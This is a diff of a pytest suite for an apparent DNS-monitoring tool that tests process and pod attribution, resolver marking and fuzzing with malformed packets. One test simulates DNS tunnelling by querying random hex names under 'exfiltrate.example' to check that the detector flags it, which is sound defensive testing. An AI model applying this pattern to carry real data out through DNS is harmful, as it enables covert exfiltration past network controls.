@@ -6,7 +6,6 @@ import random
 import subprocess
 import sys
 import uuid
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -14,9 +13,10 @@ import pytest
 
 from tests import packets, require
 from tests.cgroups import TestCgroup
+from tests.configured import configured
 from tests.kernel.observed import Observed
-from tests.kernel.pool import Kind, Watch
-from tests.network import Namespace, Resolver
+from tests.kernel.pool import ObserverKind, Watch
+from tests.network import DnsServer, NetworkNamespace
 from tests.unit.dissect.test_dns import mutated
 
 pytestmark = pytest.mark.xdist_group("pool of names")
@@ -39,41 +39,25 @@ print(getattr(dns.query, transport)(question, server, timeout=5).to_text())
 
 
 @pytest.fixture(scope="module")
-def observer_kind() -> Kind:
+def observer_kind() -> ObserverKind:
     """Cgroups in v2 alone."""
-    return Kind(hierarchies="unified")
+    return ObserverKind(hierarchies="unified")
 
 
-@pytest.fixture
-def around() -> Iterator[tuple[TestCgroup, Namespace]]:
-    """Another cgroup, for the other side, and a network namespace."""
-    require.bpf()
+@pytest.fixture(scope="module", autouse=True)
+def programs() -> None:
+    """What these tests start."""
     require.programs("dns", "dnsmasq", "curl", "ip")
-    with TestCgroup("unified") as others, Namespace() as namespace:
-        yield others, namespace
 
 
-@pytest.fixture
-def watched(watch: Watch, around: tuple[TestCgroup, Namespace]) -> tuple[Watch, TestCgroup, Namespace]:
-    """What a shared observer watches, another cgroup, and a network namespace."""
-    return watch, *around
-
-
-@pytest.fixture
-def places(around: tuple[TestCgroup, Namespace]) -> Iterator[tuple[TestCgroup, TestCgroup, Namespace]]:
-    """The same with a cgroup for an observer of the test's own."""
-    with TestCgroup("unified") as observed:
-        yield observed, *around
-
-
-def _ask(cgroup: TestCgroup | Watch, namespace: Namespace, *words: str) -> str:
+def _ask(cgroup: TestCgroup | Watch, namespace: NetworkNamespace, *words: str) -> str:
     child = cgroup.run(namespace.command([sys.executable, "-c", _ASK, *words]), stdout=subprocess.PIPE)
     answer = child.communicate()[0].decode()
     assert child.returncode == 0
     return answer
 
 
-def _run(cgroup: TestCgroup | Watch, namespace: Namespace, code: str, *words: str) -> str:
+def _run(cgroup: TestCgroup | Watch, namespace: NetworkNamespace, code: str, *words: str) -> str:
     child = cgroup.run(namespace.command([sys.executable, "-c", code, *words]), stdout=subprocess.PIPE, cwd=_HERE)
     said = child.communicate()[0].decode()
     assert child.returncode == 0
@@ -87,11 +71,11 @@ def _names(observed: Observed | Watch, where: str = "true") -> list[dict[str, An
 @pytest.mark.parametrize("transport", ["udp", "tcp"])
 @pytest.mark.parametrize("server", ["127.0.0.1", "::1"])
 def test_questions_and_answers_with_their_process(
-    watched: tuple[Watch, TestCgroup, Namespace], tmp_path: Path, transport: str, server: str
+    watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path, transport: str, server: str
 ) -> None:
     """A, AAAA, aliases, text, and a name that is not: over UDP and TCP, IPv4 and IPv6, each with process, resolver and latency."""
     cgroup, servers, namespace = watched
-    Resolver(servers, namespace, tmp_path, *_RECORDS, address=server)
+    DnsServer(servers, namespace, tmp_path, *_RECORDS, address=server)
     asked = [
         ("web.example", "A"),
         ("web.example", "AAAA"),
@@ -126,12 +110,12 @@ def test_questions_and_answers_with_their_process(
 
 
 def test_the_servers_side_is_a_question_that_came_in(
-    watched: tuple[Watch, TestCgroup, Namespace], tmp_path: Path
+    watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path
 ) -> None:
     """An observed resolver: what it was asked and what it answered, by its own process."""
     servers, others, namespace = watched
     with servers as observed:
-        Resolver(servers, namespace, tmp_path, *_RECORDS)
+        DnsServer(servers, namespace, tmp_path, *_RECORDS)
         _ask(others, namespace, "127.0.0.1", "udp", "web.example", "A")
     question, answer = _names(observed)
     assert (question["event"], question["direction"], answer["event"], answer["direction"]) == (
@@ -144,11 +128,11 @@ def test_the_servers_side_is_a_question_that_came_in(
 
 
 def test_a_connection_has_all_names_of_its_address(
-    watched: tuple[Watch, TestCgroup, Namespace], tmp_path: Path
+    watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path
 ) -> None:
     """Two names for one address, the newest first; resolved in one process, connected from another; a close keeps them; no name, none."""
     cgroup, servers, namespace = watched
-    Resolver(servers, namespace, tmp_path, *_RECORDS)
+    DnsServer(servers, namespace, tmp_path, *_RECORDS)
     _serve(servers, namespace, "127.0.0.9")
     _serve(servers, namespace, "127.0.0.8")
     connect = "import socket, sys\nfor address in sys.argv[1:]: socket.create_connection((address, 8080)).close()"
@@ -170,7 +154,7 @@ def test_a_connection_has_all_names_of_its_address(
     assert [names for _, names in by_address["127.0.0.8"]] == [None, None]
 
 
-def _serve(cgroup: TestCgroup | Watch, namespace: Namespace, address: str, port: int = 8080) -> None:
+def _serve(cgroup: TestCgroup | Watch, namespace: NetworkNamespace, address: str, port: int = 8080) -> None:
     """Something that accepts and reads to the end."""
     code = (
         "import socket, sys\nserver = socket.create_server((sys.argv[1], int(sys.argv[2])))\nprint('up', flush=True)\n"
@@ -186,22 +170,22 @@ def _pod(cgroup: TestCgroup) -> tuple[str, Path]:
     return uid, cgroup.below(f"kubepods/besteffort/pod{uid}/{uuid.uuid4().hex * 2}")
 
 
-def _in_pod(folder: Path, namespace: Namespace, code: str) -> None:
+def _in_pod(folder: Path, namespace: NetworkNamespace, code: str) -> None:
     def enter() -> None:  # before the namespace, which has a /sys of its own
         (folder / "cgroup.procs").write_text("0")
 
     subprocess.run(namespace.command([sys.executable, "-c", code]), check=True, preexec_fn=enter)
 
 
-def test_two_pods_never_mix(watched: tuple[Watch, TestCgroup, Namespace], tmp_path: Path) -> None:
+def test_two_pods_never_mix(watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path) -> None:
     """One name with another address in each pod, and one address with another name: each pod's connection has its own."""
     cgroup, servers, namespace = watched
-    Resolver(
+    DnsServer(
         servers, namespace, tmp_path, "--host-record=shop.example,127.0.0.7", "--host-record=mine.example,127.0.0.6"
     )
     _serve(servers, namespace, "0.0.0.0")
-    with Namespace() as other:
-        Resolver(
+    with NetworkNamespace() as other:
+        DnsServer(
             servers,
             other,
             tmp_path,
@@ -225,14 +209,16 @@ def test_two_pods_never_mix(watched: tuple[Watch, TestCgroup, Namespace], tmp_pa
 
 
 def test_another_resolver_is_marked_by_setting(
-    places: tuple[TestCgroup, TestCgroup, Namespace], history: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    places: tuple[TestCgroup, TestCgroup, NetworkNamespace],
+    history: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     """network.resolvers names one; the other one's rows are marked, both ways."""
     cgroup, servers, namespace = places
-    (tmp_path / "config.toml").write_text('[network]\nresolvers = ["127.0.0.1"]\n')
-    monkeypatch.setenv("FIRSTHAND_CONFIG", str(tmp_path / "config.toml"))
+    configured(tmp_path, monkeypatch, '[network]\nresolvers = ["127.0.0.1"]\n')
     for address in ("127.0.0.1", "127.0.0.2"):
-        Resolver(servers, namespace, tmp_path, *_RECORDS, address=address)
+        DnsServer(servers, namespace, tmp_path, *_RECORDS, address=address)
     with Observed(history, [cgroup.path]) as observed:
         for address in ("127.0.0.1", "127.0.0.2"):
             _ask(cgroup, namespace, address, "udp", "web.example", "A")
@@ -242,10 +228,10 @@ def test_another_resolver_is_marked_by_setting(
     assert '"resolvers": ["127.0.0.1/32"]' in settings
 
 
-def test_a_tunnel_stand_in_is_marked(watched: tuple[Watch, TestCgroup, Namespace], tmp_path: Path) -> None:
+def test_a_tunnel_stand_in_is_marked(watched: tuple[Watch, TestCgroup, NetworkNamespace], tmp_path: Path) -> None:
     """60 names with 28 bytes each in them, for one domain: from the twentieth on, with the domain in the reason."""
     cgroup, servers, namespace = watched
-    Resolver(servers, namespace, tmp_path)
+    DnsServer(servers, namespace, tmp_path)
     code = (
         "import os, socket\nfor _ in range(60):\n    try: socket.gethostbyname(f'{os.urandom(28).hex()}.exfiltrate.example')\n"
         "    except OSError: pass\n"
@@ -273,14 +259,14 @@ for line in sys.stdin.read().split():
 """
 
 
-def _raw(cgroup: TestCgroup | Watch, namespace: Namespace, messages: list[tuple[str, bytes]]) -> None:
+def _raw(cgroup: TestCgroup | Watch, namespace: NetworkNamespace, messages: list[tuple[str, bytes]]) -> None:
     """Datagrams between a client's socket and a server's on port 53, in one process."""
     child = cgroup.run(namespace.command([sys.executable, "-c", _RAW]), stdin=subprocess.PIPE)
     child.communicate("\n".join(f"{direction}:{wire.hex()}" for direction, wire in messages).encode())
     assert child.returncode == 0
 
 
-def test_what_is_remarkable_is_marked(places: tuple[TestCgroup, TestCgroup, Namespace], history: Path) -> None:
+def test_what_is_remarkable_is_marked(places: tuple[TestCgroup, TestCgroup, NetworkNamespace], history: Path) -> None:
     """Malformed, looping, oversized, truncated by its sender and by us, unasked: each with its mark and reason."""
     cgroup, _, namespace = places
     asked = packets.question("x.example.", number=5)
@@ -308,7 +294,7 @@ def test_what_is_remarkable_is_marked(places: tuple[TestCgroup, TestCgroup, Name
 
 
 def test_thousands_of_mutated_messages_never_hurt(
-    places: tuple[TestCgroup, TestCgroup, Namespace], history: Path
+    places: tuple[TestCgroup, TestCgroup, NetworkNamespace], history: Path
 ) -> None:
     """Questions and answers broken in every way, really sent: each is a row at both ends or counted, and processes are recorded on."""
     cgroup, _, namespace = places
